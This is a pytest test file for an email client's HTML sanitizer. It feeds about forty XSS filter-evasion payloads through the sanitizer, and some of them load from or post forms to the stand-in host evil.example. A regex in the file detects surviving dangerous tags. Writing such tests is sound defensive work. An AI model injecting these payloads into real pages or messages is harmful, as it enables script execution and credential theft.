"""HTML of strangers: what runs or calls home goes, what is meant to be seen stays."""

import re

import pytest

from zeebe_mail.message.html_text import html_text, text_without_structure
from zeebe_mail.message.sanitize import HtmlError, sanitize

# From the OWASP XSS filter evasion sheet and known mutation attacks.
XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<img src=javascript:alert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<body onload=alert(1) background=//evil.example/x.png>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='background-color:url(//evil.example)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='color:red;position:fixed;top:0'>x</div>",
    "<style>@import '//evil.example';</style>",
    "<table background=//evil.example/x.png><tr><td background=//evil.example/y.png>x</table>",
    "<video src=//evil.example onerror=alert(1)><source src=//evil.example></video>",
    "<img srcset='//evil.example/x.png 2x' src=//evil.example/x.png>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr<meta>ipt>alert(1)</scr<meta>ipt>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
]
DANGEROUS = re.compile(
    r"<(?:script|style|iframe|object|embed|form|input|link|meta|base|svg|math|body|video|source)\b"
    r"|<[^>]*\s(?:on\w+|srcset|background|srcdoc|ping)\s*=|javascript:|vbscript:|data:text|data:image/svg|evil\.example"
    r"|position|expression\(|url\(",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", XSS)
def test_attacks_are_taken_out(html: str) -> None:
    """Looked for in tags only: what is left of a script as text cannot run."""
    tags = "".join(re.findall(r"<[^>]*>", sanitize(html)))
    assert not DANGEROUS.search(tags)


def test_the_check_would_see_them() -> None:
    assert all(DANGEROUS.search(html) for html in XSS if "on" in html and "title=" not in html)


@pytest.mark.parametrize(
    "html",
    [
        '<p style="color:red">x</p>',
        '<table border="1"><tbody><tr><td colspan="2" bgcolor="#fff">x</td></tr></tbody></table>',
        '<img src="cid:a@b" alt="logo" width="10">',
        '<img src="data:image/png;base64,iVBORw==">',
        "<blockquote>x</blockquote>",
        '<font color="red">x</font>',
        "<ul><li>x</li></ul>",
    ],
)
def test_what_is_meant_to_be_seen_stays(html: str) -> None:
    assert sanitize(html) == html


def test_links_tell_nobody_where_they_were_followed_from() -> None:
    assert sanitize('<a href="https://example.org" target=_blank>x</a>') == (
        '<a href="https://example.org" rel="noopener noreferrer">x</a>'
    )


def test_remote_images_keep_their_words_only() -> None:
    assert sanitize('<img src="https://example.org/pixel.gif" alt="Sale">') == '<img alt="Sale">'


@pytest.mark.parametrize("html", ["<div>" * 600, "<b>" * 600, "<a " + "x=1 " * 5000 + ">"])
def test_html_that_would_take_too_long_is_refused(html: str) -> None:
    with pytest.raises(HtmlError, match="too convoluted"):
        sanitize(html)


def test_deep_tables_of_newsletters_are_not_too_deep() -> None:
    assert sanitize("<table><tr><td>" * 60 + "x").count("<td>") == 60
    assert "x" in sanitize("<p>x" * 20_000)


def test_a_charset_that_panics_the_parser_does_no_harm() -> None:
    """html5ever 0.39 panics on it."""
    assert sanitize("a<meta http-equiv=Content-Type content='text/html charset'>b") == "ab"


def test_a_panic_is_an_error_like_others(monkeypatch: pytest.MonkeyPatch) -> None:
    """A panic of Rust is a BaseException, which nobody catches."""

    class PanicException(BaseException):
        pass

    class Broken:
        def clean(self, _: str) -> str:
            raise PanicException

    monkeypatch.setattr("zeebe_mail.message.sanitize._CLEANER", Broken())
    with pytest.raises(HtmlError, match="could not be read"):
        sanitize("x")


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One</p><p>Two<br>Three</p>", "One\n\nTwo\nThree"),
        ("a<div>b</div>c", "a\nb\nc"),
        ("<h1>T</h1>x", "T\n\nx"),
        ("<ul><li>a</li><li>b</li></ul>", "- a\n- b"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a\tb\nc"),
        ("a  b\n c", "a b c"),
        ("<pre>a  b\n c</pre>", "a  b\n c"),
        ("&lt;b&gt; &amp; &nbsp;x", "<b> &  x"),
        ("<a href='https://example.org/x'>here</a>", "here <https://example.org/x>"),
        ("<a href='https://example.org/'>example.org</a>", "example.org"),
        ("<a href='mailto:a@example.org'>a@example.org</a>", "a@example.org"),
        ("<img alt='Logo' src='cid:x'> x", "Logo x"),
        ("Hi<blockquote>old<br>mail</blockquote>", "Hi\n\n> old\n> mail"),
        ("<style>p{}</style><title>t</title><script>x()</script>Hi", "Hi"),
        ("a<hr>b", "a\n---\nb"),
    ],
)
def test_html_reads_as_text(html: str, text: str) -> None:
    assert html_text(sanitize(html)) == text


def test_text_is_found_without_structure() -> None:
    html = "<style>p{}</style><p>One &amp;\n two<script>x()</script><b>three<script>y"
    assert text_without_structure(html).split() == ["One", "&", "two", "three", "y"]
